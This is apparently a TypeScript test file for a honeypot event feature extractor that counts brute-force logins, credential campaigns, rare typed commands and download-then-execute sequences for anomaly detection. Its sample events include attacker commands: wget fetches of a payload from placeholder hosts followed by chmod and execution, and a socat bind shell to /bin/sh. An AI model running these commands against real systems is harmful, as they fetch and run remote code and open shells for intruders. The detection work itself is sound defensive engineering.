import assert from "node:assert/strict";
import { SeededRandom } from "../../src/stats/seeded-random";
import { WindowedEvent, WindowFeatures } from "../../src/features/window-features";
import { StreamingPca } from "../../src/preprocessing/streaming-pca";
import { heapKeptBy } from "../support/garbage-collector";

const T0 = Date.UTC(2026, 2, 18, 10, 0, 0);
const failed = (seconds: number, src_ip = "203.0.113.7"): WindowedEvent => ({
  src_ip, time_ms: T0 + seconds * 1000, eventid: "cowrie.login.failed", username: "root", password: `pw${seconds}`,
});

/** Feeds `windows` one source's events in its one session, `seconds` after T0, and returns the features. */
const sessionEvents = (windows: WindowFeatures) => (seconds: number, src_ip: string, eventid: string, input?: string) =>
  windows.update({ src_ip, session: `${src_ip}-1`, time_ms: T0 + seconds * 1000, eventid, input }).features;

describe("WindowFeatures", () => {
  it("counts the new sources behind one credential pair as a campaign, but not a source it has long known", () => {
    const windows = new WindowFeatures();
    const login = (seconds: number, src_ip: string): WindowedEvent => ({
      src_ip, time_ms: T0 + seconds * 1000, eventid: "cowrie.login.failed", username: "admin", password: "Winter2026!",
    });
    for (const seconds of [0, 3000, 6000]) windows.update(failed(seconds, "192.0.2.50"));
    let campaign = 0;
    for (let k = 0; k < 25; k++) campaign = windows.update(login(7200 + k * 3, `198.51.100.${k}`)).features.campaign_sources_5m;
    assert.equal(campaign, 25);
    assert.equal(windows.update(login(7300, "192.0.2.50")).features.campaign_sources_5m, 25, "known for two hours: not new, not counted");
    assert.equal(windows.update(failed(7301, "198.51.100.99")).features.campaign_sources_5m, 1, "its own password: its own key");
  });

  it("counts the failed logins made while another of the source's sessions was open: a cracking tool's parallel tasks, not a worm's one connection at a time", () => {
    const at = (seconds: number, src_ip: string, session: string, eventid: string): WindowedEvent => ({
      src_ip, session, time_ms: T0 + seconds * 1000, eventid, username: "root", password: `pw${seconds}`,
    });
    const tool = new WindowFeatures();
    let parallel = tool.update(at(0, "203.0.113.7", "t0", "cowrie.session.connect")).features;
    tool.update(at(0.5, "203.0.113.7", "t1", "cowrie.session.connect"));
    for (let i = 0; i < 24; i++) parallel = tool.update(at(1 + i * 2.4, "203.0.113.7", `t${i % 2}`, "cowrie.login.failed")).features;
    assert.deepEqual([parallel.failed_logins_1m, parallel.parallel_failed_logins_1m], [24, 24]);
    const worm = new WindowFeatures();
    let sequential = worm.update(at(0, "198.51.100.4", "w0", "cowrie.session.connect")).features;
    for (let k = 0; k < 3; k++) {
      if (k > 0) worm.update(at(k * 20, "198.51.100.4", `w${k}`, "cowrie.session.connect"));
      for (let i = 1; i < 19; i++) sequential = worm.update(at(k * 20 + i, "198.51.100.4", `w${k}`, "cowrie.login.failed")).features;
      worm.update(at(k * 20 + 19.5, "198.51.100.4", `w${k}`, "cowrie.session.closed"));
    }
    assert.deepEqual([sequential.failed_logins_1m, sequential.parallel_failed_logins_1m], [54, 0], "one connection after another");
  });

  it("counts the rare commands typed at a person's pace, seconds after the session's previous event, and none of a script's burst", () => {
    const at = sessionEvents(new WindowFeatures({ vocabularyWarmUp: 0 }));
    at(0, "198.51.100.7", "cowrie.session.connect");
    at(0.4, "198.51.100.7", "cowrie.login.success");
    let script = at(0.8, "198.51.100.7", "cowrie.command.input", "kit1");
    for (const [i, line] of ["kit2", "kit3", "kit4"].entries()) script = at(1.2 + i * 0.4, "198.51.100.7", "cowrie.command.input", line);
    assert.deepEqual([script.rare_commands_1m, script.typed_rare_commands_1m], [4, 0]);
    at(10, "203.0.113.5", "cowrie.session.connect");
    at(15, "203.0.113.5", "cowrie.login.success");
    let person = at(20, "203.0.113.5", "cowrie.command.input", "nmap -sS 10.0.0.0/24");
    person = at(21, "203.0.113.5", "cowrie.command.input", "tcpdump");
    assert.deepEqual([person.rare_commands_1m, person.typed_rare_commands_1m], [2, 1], "a second after the last: not typed");
    person = at(30, "203.0.113.5", "cowrie.command.input", "socat");
    assert.deepEqual([person.rare_commands_1m, person.typed_rare_commands_1m], [3, 2]);
  });

  it("counts a person's pauses by their own sensor's clock, when another sensor's clock runs half an hour ahead", () => {
    const windows = new WindowFeatures({ vocabularyWarmUp: 0 });
    const on = (sensor: string, seconds: number, src_ip: string, eventid: string, input?: string) =>
      windows.update({ sensor, src_ip, session: `${src_ip}-1`, time_ms: T0 + seconds * 1000, eventid, input }).features;
    on("a", 0, "203.0.113.5", "cowrie.session.connect");
    let person: Record<string, number> = {};
    for (const [i, line] of ["nmap -sS 10.0.0.0/24", "tcpdump", "socat"].entries()) {
      on("ahead", 1800 + i * 10 + 5, "198.51.100.9", "cowrie.session.connect");  // the other sensor's traffic, in between
      person = on("a", 10 + i * 10, "203.0.113.5", "cowrie.command.input", line);
    }
    assert.equal(person.typed_rare_commands_5m, 3, "each line typed ten seconds after the last");
  });

  it("counts the rare commands typed at a person's pace that the shell did not know, once a line, and none a script sent or the shell ran", () => {
    const at = sessionEvents(new WindowFeatures({ vocabularyWarmUp: 0 }));
    at(0, "198.51.100.7", "cowrie.session.connect");
    at(0.4, "198.51.100.7", "cowrie.login.success");
    let script = at(0.8, "198.51.100.7", "cowrie.command.input", "enable");
    script = at(0.8007, "198.51.100.7", "cowrie.command.failed", "enable");
    assert.equal(script.typed_unknown_commands_1m, 0, "a script's line, however unknown");
    at(10, "203.0.113.5", "cowrie.session.connect");
    at(15, "203.0.113.5", "cowrie.login.success");
    let person = at(20, "203.0.113.5", "cowrie.command.input", "nmap -sS 10.0.0.0/24; gcc x.c");
    assert.equal(person.typed_unknown_commands_1m, 0, "not known yet to have failed");
    at(20.0007, "203.0.113.5", "cowrie.command.failed", "nmap -sS 10.0.0.0/24");
    person = at(20.0014, "203.0.113.5", "cowrie.command.failed", "gcc x.c");
    assert.equal(person.typed_unknown_commands_1m, 1, "one line, however many of its parts failed");
    person = at(28, "203.0.113.5", "cowrie.command.input", "hostname");
    assert.deepEqual([person.typed_rare_commands_1m, person.typed_unknown_commands_1m], [2, 1], "rare, but the shell ran it");
    at(36, "203.0.113.5", "cowrie.command.input", "docker ps");
    person = at(36.0007, "203.0.113.5", "cowrie.command.failed", "docker ps");
    assert.deepEqual([person.typed_rare_commands_1m, person.typed_unknown_commands_1m], [3, 2]);
  });

  it("counts a typed line the shell did not know on a sensor too new to call programs rare, unless the sensor has run it 3 times", () => {
    const at = sessionEvents(new WindowFeatures());
    for (let k = 0; k < 3; k++) {
      at(k * 10, `198.51.100.${k}`, "cowrie.session.connect");
      at(k * 10 + 0.4, `198.51.100.${k}`, "cowrie.command.input", "enable");
      at(k * 10 + 0.4007, `198.51.100.${k}`, "cowrie.command.failed", "enable");
    }
    at(40, "203.0.113.5", "cowrie.session.connect");
    at(45, "203.0.113.5", "cowrie.login.success");
    at(50, "203.0.113.5", "cowrie.command.input", "enable");
    let person = at(50.0007, "203.0.113.5", "cowrie.command.failed", "enable");
    assert.equal(person.typed_unknown_commands_1m, 0, "run three times before: the sensor's own");
    at(58, "203.0.113.5", "cowrie.command.input", "nmap -sS 10.0.0.0/24");
    person = at(58.0007, "203.0.113.5", "cowrie.command.failed", "nmap -sS 10.0.0.0/24");
    assert.deepEqual([person.typed_rare_commands_1m, person.typed_unknown_commands_1m], [0, 1], "too few programs seen to call any rare");
  });

  it("learns nothing more from a source once it typed a program the sensor seldom ran: a fourth person typing three people's tools still counts them rare, not after three scripts ran them", () => {
    const at = sessionEvents(new WindowFeatures({ vocabularyWarmUp: 0 }));
    const person = (start: number, src_ip: string) => {
      at(start, src_ip, "cowrie.session.connect");
      at(start + 5, src_ip, "cowrie.login.success");
      at(start + 10, src_ip, "cowrie.command.input", "htop");
      at(start + 20, src_ip, "cowrie.command.input", "nmap -sS 10.0.0.0/24");
      at(start + 30, src_ip, "cowrie.command.input", "socat TCP-LISTEN:1337 EXEC:/bin/sh");
      return at(start + 40, src_ip, "cowrie.command.input", "tcpdump -i any").typed_rare_commands_1m;
    };
    assert.deepEqual([person(0, "203.0.113.5"), person(3600, "203.0.113.6"), person(7200, "203.0.113.7")], [4, 4, 4]);
    assert.equal(person(4 * 3600, "198.51.100.40"), 3, "the habit each typed first is the sensor's own now; the tools typed after it are not");
    for (let k = 0; k < 3; k++) {
      const bot = `192.0.2.${k + 1}`;
      at(5 * 3600 + k * 10, bot, "cowrie.session.connect");
      at(5 * 3600 + k * 10 + 0.3, bot, "cowrie.login.success");
      at(5 * 3600 + k * 10 + 0.6, bot, "cowrie.command.input", "nmap -sS 10.0.0.0/24; socat TCP-LISTEN:1337 EXEC:/bin/sh; tcpdump -i any");
    }
    assert.equal(person(6 * 3600, "198.51.100.41"), 0, "three scripts ran them: the sensor's own");
  });

  it("learns a program as the sensor's own from more than one source, not from one bot's session naming it three times: a person typing it after still counts it rare and unknown", () => {
    const at = sessionEvents(new WindowFeatures({ vocabularyWarmUp: 0 }));
    at(0, "192.0.2.1", "cowrie.session.connect");
    at(0.3, "192.0.2.1", "cowrie.login.success");
    for (let k = 0; k < 3; k++) at(0.6 + k * 0.2, "192.0.2.1", "cowrie.command.input", "nmap -h; socat -h; tcpdump -h");
    at(3600, "203.0.113.5", "cowrie.session.connect");
    at(3605, "203.0.113.5", "cowrie.login.success");
    let person: Record<string, number> = {};
    for (const [i, line] of ["nmap -sS 10.0.0.0/24", "socat TCP-LISTEN:1337 EXEC:/bin/sh", "tcpdump -i any"].entries()) {
      at(3610 + i * 10, "203.0.113.5", "cowrie.command.input", line);
      person = at(3610 + i * 10 + 0.0007, "203.0.113.5", "cowrie.command.failed", line);
    }
    assert.deepEqual([person.typed_rare_commands_1m, person.typed_unknown_commands_1m], [3, 3]);
  });

  it("counts a fetch then a run in one session as a download executed", () => {
    const windows = new WindowFeatures();
    const command = (seconds: number, input: string): WindowedEvent => ({
      src_ip: "203.0.113.9", session: "s1", time_ms: T0 + seconds * 1000, eventid: "cowrie.command.input", input,
    });
    assert.equal(windows.update(command(0, "cd /tmp; wget http://192.0.2.1/x")).features.download_execs_1m, 0);
    assert.equal(windows.update(command(2, "chmod +x x; ./x")).features.download_execs_1m, 1);
    assert.equal(windows.update(command(90, "uname -a")).features.download_execs_1m, 0, "out of the minute");
    assert.equal(windows.update(command(91, "uname -a")).features.download_execs_5m, 1);
  });

  it("names what a source's drop ran on its events from then on, for the alert stage, and on no other source's", () => {
    const windows = new WindowFeatures();
    const command = (seconds: number, src_ip: string, input: string): WindowedEvent => ({
      src_ip, session: `${src_ip}-s`, time_ms: T0 + seconds * 1000, eventid: "cowrie.command.input", input,
    });
    assert.equal(windows.update(command(0, "203.0.113.9", "cd /tmp; wget http://203.0.113.9:41075/i")).dropped_payload, undefined);
    assert.equal(windows.update(command(2, "203.0.113.9", "chmod 777 i; ./i")).dropped_payload, "wget http://*/i");
    assert.equal(windows.droppedPayload, "wget http://*/i");
    assert.equal(windows.update(command(3, "198.51.100.4", "uname -a")).dropped_payload, undefined);
    assert.equal(windows.droppedPayload, undefined);
    assert.equal(windows.update(command(400, "203.0.113.9", "uname -a")).dropped_payload, "wget http://*/i");
  });

  it("names its features per window, shortest window first, then sensor-wide, the campaign, calendar and is_internal_ip", () => {
    const { names } = new WindowFeatures({ windowSeconds: [3600, 90, 60] });
    assert.equal(names.length, 22 * 3 + 10);
    assert.deepEqual(names.slice(0, 6), ["events_1m", "events_90s", "events_1h", "failed_logins_1m", "failed_logins_90s", "failed_logins_1h"]);
    assert.deepEqual(names.slice(6, 9), ["parallel_failed_logins_1m", "parallel_failed_logins_90s", "parallel_failed_logins_1h"]);
    assert.deepEqual(names.slice(63, 66), ["session_duration_1m", "session_duration_90s", "session_duration_1h"]);
    assert.deepEqual(names.slice(66, 71), ["events_per_min", "new_ips_per_min", "distinct_ips_per_min", "campaign_sources_1m", "campaign_sources_5m"]);
    assert.equal(names[names.length - 1], "is_internal_ip");
  });

  it("refuses windows, bounds and tolerances it cannot honour", () => {
    assert.throws(() => new WindowFeatures({ windowSeconds: [] }), RangeError);
    assert.throws(() => new WindowFeatures({ windowSeconds: [30, 30] }), RangeError);
    assert.throws(() => new WindowFeatures({ windowSeconds: [0.5] }), RangeError);
    assert.throws(() => new WindowFeatures({ windowSeconds: [300], idleTtlSeconds: 299 }), /at least the longest window/);
    assert.throws(() => new WindowFeatures({ maxTrackedIps: 0 }), RangeError);
    assert.throws(() => new WindowFeatures({ latenessToleranceSeconds: -1 }), RangeError);
  });

  it("counts out-of-order and too-late events, and evictions, in its stats", () => {
    const windows = new WindowFeatures({ windowSeconds: [30], maxTrackedIps: 2, idleTtlSeconds: 60, latenessToleranceSeconds: 5 });
    windows.update(failed(10, "a"));
    windows.update(failed(6, "b")); // 4 s late
    windows.update(failed(2, "c")); // 8 s late; evicts a
    // A leap ahead of the clock: idle sources wait for another event to back it, so the table is full and b goes.
    windows.update(failed(100, "d"));
    windows.update(failed(101, "d")); // c idle for 60 s or more
    assert.deepEqual(windows.stats, {
      trackedIps: 1, events: 5, outOfOrder: 2, lateBeyondTolerance: 1, unconfirmedLeaps: 0, evictedIdle: 1, evictedLeastRecentlyUsed: 2,
    });
  });

  describe("the event-time clock", () => {
    const DAY_AHEAD = 23 * 3600;
    /** A busy sensor: five sources, each failing a login every second for two minutes. */
    const busyMinutes = Array.from({ length: 120 * 5 }, (_, i) => failed(Math.floor(i / 5) + (i % 5) / 10, `198.51.100.${i % 5}`));

    it("is not dragged forward by one event stamped 23 h ahead: every later event gets the features it gets without it", () => {
      const plain = new WindowFeatures();
      const hit = new WindowFeatures();
      busyMinutes.forEach((event, i) => {
        if (i === 300) hit.updateVector(failed(60 + DAY_AHEAD, "192.0.2.99"));
        assert.deepEqual(hit.updateVector(event), plain.updateVector(event), `event ${i}`);
      });
      assert.equal(hit.stats.lateBeyondTolerance, 0);
      assert.equal(hit.stats.unconfirmedLeaps, 1);
      assert.deepEqual([hit.stats.trackedIps, hit.stats.evictedIdle], [5, 1], "only the source that leapt is forgotten, not every source idle for a day");
    });

    it("is not dragged forward by one event stamped a year ahead on a quiet sensor, whose next event comes more than the tolerance later anyway", () => {
      const quiet = Array.from({ length: 60 }, (_, i) => failed(i * 10, `198.51.100.${i % 3}`));
      const plain = new WindowFeatures();
      const hit = new WindowFeatures();
      quiet.forEach((event, i) => {
        if (i === 30) hit.updateVector(failed(295 + 365 * 86_400, "192.0.2.99"));
        assert.deepEqual(hit.updateVector(event), plain.updateVector(event), `event ${i}`);
      });
      assert.deepEqual([hit.stats.lateBeyondTolerance, hit.stats.unconfirmedLeaps], [0, 1]);
    });

    it("starts its windows again when a log's first event was stamped a year ahead: from the event after next, the features of the log without it", () => {
      const plain = new WindowFeatures();
      const hit = new WindowFeatures();
      hit.updateVector(failed(365 * 86_400, "192.0.2.99"));
      hit.updateVector(busyMinutes[0]);
      busyMinutes.slice(1).forEach((event, i) => assert.deepEqual(hit.updateVector(event), plain.updateVector(event), `event ${i + 1}`));
      assert.equal(hit.stats.lateBeyondTolerance, 1, "only the first event after it was counted at its clock");
    });

    it("keeps a campaign's sources when one event of its credential pair is stamped 23 h ahead: every later event gets the features it gets without it", () => {
      const login = (seconds: number, src_ip: string): WindowedEvent => ({
        src_ip, time_ms: T0 + seconds * 1000, eventid: "cowrie.login.failed", username: "admin", password: "Winter2026!",
      });
      const wave = Array.from({ length: 25 }, (_, k) => login(k * 3, `198.51.100.${k}`));
      const plain = new WindowFeatures();
      const hit = new WindowFeatures();
      wave.forEach((event, k) => {
        if (k === 12) hit.updateVector(login(36 + DAY_AHEAD, "192.0.2.99"));
        assert.deepEqual(hit.update(event).features, plain.update(event).features, `source ${k}`);
      });
      assert.equal(hit.stats.unconfirmedLeaps, 1);
    });

    it("keeps the windows of a source that two sensors see in turn, one with its clock hours ahead: the stream's clock is the other's", () => {
      const windows = new WindowFeatures();
      let failedIn1m = 0;
      for (let second = 0; second < 120; second++) {
        failedIn1m = windows.update(failed(second)).features.failed_logins_1m;
        windows.update(failed(second + 2 * 3600)); // the second sensor's stamp, two hours ahead: a leap the next event does not back
      }
      assert.equal(failedIn1m, 60, "a login a second on the first sensor");
      assert.deepEqual([windows.stats.unconfirmedLeaps, windows.stats.trackedIps], [119, 1]);
    });

    it("follows a sensor that really jumps ahead (back after a quiet day): the next event backs the leap", () => {
      const windows = new WindowFeatures({ windowSeconds: [30] });
      windows.update(failed(0));
      windows.update(failed(1));
      const failedIn30s = (event: WindowedEvent) => windows.update(event).features.failed_logins_30s;
      assert.equal(failedIn30s(failed(DAY_AHEAD)), 1);
      assert.equal(failedIn30s(failed(DAY_AHEAD + 3, "198.51.100.1")), 1);
      assert.equal(failedIn30s(failed(DAY_AHEAD + 1)), 2, "in time, in its own second");
      assert.deepEqual([windows.stats.outOfOrder, windows.stats.lateBeyondTolerance, windows.stats.unconfirmedLeaps], [1, 0, 0]);
    });
  });

  it("holds no more than the head of a session id a forged or posted event made a quarter megabyte long", () => {
    const windows = new WindowFeatures();
    const junk = "A".repeat(256 * 1024);
    const kept = heapKeptBy(() => {
      for (let i = 0; i < 200; i++) {
        const session = `${i}${junk}`;
        // The connect opens the session beside the source's others; the download waits for its run.
        windows.updateVector({ src_ip: `198.51.100.${i}`, time_ms: T0 + i * 1000, eventid: "cowrie.session.connect", session });
        windows.updateVector({ src_ip: `198.51.100.${i}`, time_ms: T0 + i * 1000, eventid: "cowrie.session.file_download", session });
      }
    });
    assert.ok(kept < 5 * 1024 * 1024, `200 sessions kept ${(kept / 1024 / 1024).toFixed(1)} MB alive`);
  });

  it("gives a vector pca can learn after a posted session close of 1e300 ms: a duration no Date spans is not averaged", () => {
    const windows = new WindowFeatures();
    windows.update({ src_ip: "203.0.113.7", time_ms: T0, eventid: "cowrie.session.closed", duration_ms: 1e300 });
    const { vector, names, features } = windows.update({ src_ip: "203.0.113.7", time_ms: T0 + 1000, eventid: "cowrie.session.closed", duration_ms: 5000 });
    assert.equal(new StreamingPca().problemWith(vector, names), undefined);
    assert.equal(features.session_duration_30s, 5);
  });

  it("keeps the event's own time string, or writes one from time_ms", () => {
    const windows = new WindowFeatures();
    assert.equal(windows.update({ ...failed(0), time: "2026-03-18T10:00:00.000123Z" }).time, "2026-03-18T10:00:00.000123Z");
    assert.equal(windows.update(failed(1.5)).time, "2026-03-18T10:00:01.500Z");
  });

  it("names each value of the vector in features, in the order of names, and updateVector gives the same vector", () => {
    const windows = new WindowFeatures({ windowSeconds: [90, 30] });
    const twin = new WindowFeatures({ windowSeconds: [90, 30] });
    const random = new SeededRandom("record and vector");
    let now = 0;
    for (let i = 0; i < 500; i++) {
      now += random.exponential(0.5);
      const event: WindowedEvent = i % 7 === 0
        ? { src_ip: `198.51.100.${i % 5}`, time_ms: T0 + now * 1000, eventid: "cowrie.session.connect", dst_port: 20 + (i % 4) }
        : failed(now, `198.51.100.${i % 5}`);
      const record = windows.update(event);
      assert.deepEqual(Object.keys(record.features), [...record.names]);
      assert.deepEqual(Object.values(record.features), record.vector);
      assert.deepEqual(twin.updateVector(event), record.vector);
    }
  });

  it("stays exact through a long brute force that the panes compress (property)", () => {
    const random = new SeededRandom("brute force");
    const windows = new WindowFeatures();
    const times: number[] = [];
    let now = 0;
    let last = windows.update(failed(0));
    times.push(0);
    for (let i = 0; i < 20_000; i++) {
      now += random.exponential(0.03); // about 33 attempts a second for 10 minutes
      last = windows.update(failed(now));
      times.push(now);
    }
    const second = Math.floor(now);
    for (const [name, width] of [["failed_logins_30s", 30], ["failed_logins_1m", 60], ["failed_logins_5m", 300]] as const) {
      assert.equal(last.features[name], times.filter((t) => Math.floor(t) > second - width).length, name);
    }
  });

  it("counts a username as rare when new, a program when run fewer than 3 times or by one source, on a sensor that has seen its warm-up of them", () => {
    const windows = new WindowFeatures({ vocabularyWarmUp: 3 });
    const login = (seconds: number, username: string) => windows.update({ ...failed(seconds, "198.51.100.1"), username });
    const command = (seconds: number, input: string, src_ip = "198.51.100.2") =>
      windows.update({ src_ip, time_ms: T0 + seconds * 1000, eventid: "cowrie.command.input", input });
    // The first three names are new to a sensor that knew none: that says nothing yet.
    for (const [i, name] of ["root", "admin", "ubuntu"].entries()) assert.equal(login(i, name).features.rare_usernames_30s, 0, name);
    assert.equal(login(3, "root").features.rare_usernames_30s, 0, "seen before");
    assert.equal(login(4, "oracle").features.rare_usernames_30s, 1, "new, and the sensor is warm");
    assert.equal(login(5, "oracle").features.rare_usernames_30s, 1, "the second time is not rare: still one in the window");
    // Programs have their own vocabulary: "uname", "cd" and "ls" warm it up.
    assert.equal(command(6, "uname -a; cd /tmp").features.rare_commands_30s, 0);
    assert.equal(command(7, "ls").features.rare_commands_30s, 0);
    assert.equal(command(8, "cd /tmp; nmap -sS 10.0.0.0/24").features.rare_commands_30s, 1, "nmap is new");
    assert.equal(command(9, "nmap -p 22 10.0.0.1").features.rare_commands_30s, 2, "run once before: still rare");
    assert.equal(command(10, "nmap -p 23 10.0.0.1").features.rare_commands_30s, 3, "run twice before: still rare");
    assert.equal(command(11, "nmap -p 80 10.0.0.1").features.rare_commands_30s, 4, "run three times before, by one source: still rare");
    assert.equal(command(12, "nmap -p 81 10.0.0.1", "198.51.100.3").features.rare_commands_30s, 1, "run by one source before: still rare");
    assert.equal(command(13, "nmap -p 82 10.0.0.1", "198.51.100.4").features.rare_commands_30s, 0, "run by two sources before: known now");
  });
});
